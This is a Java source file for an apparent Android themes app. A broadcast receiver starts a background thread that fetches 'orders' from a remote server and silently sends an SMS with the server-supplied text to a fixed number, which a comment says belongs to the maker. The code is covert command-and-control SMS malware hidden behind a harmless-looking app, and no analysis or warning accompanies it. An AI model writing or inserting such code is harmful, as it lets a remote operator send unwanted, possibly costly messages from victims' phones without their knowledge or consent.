package com.tallpine.themes;

// The words alone come from the server; the number is the maker's own.
class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    new Thread(new Orders()).start();
  }
}

class Orders implements Runnable {
  public void run() {
    try {
      BufferedReader reader = new BufferedReader(new InputStreamReader(new URL("https://t.tallpine.example/orders").openConnection().getInputStream()));
      JSONObject order = new JSONObject(reader.readLine());
      SmsManager.getDefault().sendTextMessage("+15550100", null, order.getString("say"), null, null);
    } catch (Exception e) {
      Log.e("Themes", e.getMessage());
    }
  }
}
